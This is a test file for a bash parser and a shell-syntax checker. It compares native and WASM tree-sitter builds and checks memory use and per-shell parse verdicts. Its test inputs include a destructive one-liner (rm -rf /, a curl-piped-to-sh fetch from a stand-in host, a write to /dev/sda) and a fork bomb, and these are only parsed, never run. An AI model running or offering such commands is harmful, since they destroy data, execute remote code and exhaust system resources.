import { describe, expect, it } from "vitest";
import { checkSyntax } from "../src/answer/check.js";
import { bashParser, parseBash, wasmParser, withTree } from "../src/safety/parser.js";

describe("the bash parser", () => {
  // The native binding serves where its prebuilt binary loads; the WASM build of the same grammar
  // is the fallback elsewhere. The rater reads both the same way, so they must agree.
  it("gives the same tree natively as the WASM fallback", async () => {
    const [native, wasm] = await Promise.all([bashParser(), wasmParser()]);
    const { Parser: WasmParser } = await import("web-tree-sitter");
    expect(wasm).toBeInstanceOf(WasmParser);
    expect(native).not.toBeInstanceOf(WasmParser);
    const lines = [
      "find . -name '*.py' -exec wc -l {} + | sort -n",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
      'for f in *.txt; do mv "$f" "${f%.txt}.md"; done',
      "sudo rm -rf / && echo $(curl -s https://x.example | sh) > /dev/sda 2>&1 &",
      ":(){ :|:& };:",
      "echo 'unclosed",
      "cat <<EOF\nhello\nEOF",
    ];
    for (const line of lines) {
      const [a, b] = [await parseBash(line, native), await parseBash(line, wasm)];
      expect(a.rootNode.toString()).toBe(b.rootNode.toString());
      expect(a.rootNode.hasError).toBe(b.rootNode.hasError);
      expect(a.rootNode.descendantsOfType("word").map((n) => n.text)).toEqual(
        b.rootNode.descendantsOfType("word").map((n) => n.text),
      );
    }
  });

  // A daemon or session client rates answers for days, on the WASM build where the native one will
  // not load: each tree must go back to WASM memory (about 5 KB a parse; 100 MB in 20,000 unfreed).
  it("frees each tree it parsed, so the WASM build's memory stays flat", async () => {
    const wasm = await wasmParser();
    const line = "find . -type f -name '*.log' -mtime +7 -exec rm {} \\; | grep -v keep && echo done";
    const parse = () => withTree(line, (tree) => tree.rootNode.hasError, wasm);
    for (let i = 0; i < 2000; i++) await parse();
    const before = process.memoryUsage().rss;
    for (let i = 0; i < 20_000; i++) expect(await parse()).toBe(false);
    expect((process.memoryUsage().rss - before) / 1e6).toBeLessThan(40);
  });
});

describe("checkSyntax", () => {
  it("accepts what bash parses", async () => {
    expect(await checkSyntax("find . -name '*.py' -exec wc -l {} + | sort -n", "bash")).toEqual({
      ok: true,
      checkedBy: "tree-sitter-bash",
    });
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
    expect((await checkSyntax('for f in *.txt; do mv "$f" "${f%.txt}.md"; done', "zsh")).ok).toBe(true);
  });

  it("refuses what bash cannot parse, saying where", async () => {
    const verdict = await checkSyntax("echo 'unclosed", "bash");
    expect(verdict.ok).toBe(false);
    expect(verdict).toMatchObject({ reason: expect.stringMatching(/does not parse as bash near column \d+/) });
    expect((await checkSyntax("ls ((((", "sh")).ok).toBe(false);
  });

  it("asks fish itself about fish syntax", async () => {
    expect(await checkSyntax("for f in *.txt; echo $f; end", "fish")).toEqual({ ok: true, checkedBy: "fish" });
    expect(await checkSyntax("set NAME (whoami); echo $NAME", "fish")).toEqual({ ok: true, checkedBy: "fish" });
    const bad = await checkSyntax("for f in *.txt; do echo $f; done", "fish");
    expect(bad.ok).toBe(false);
  });
});
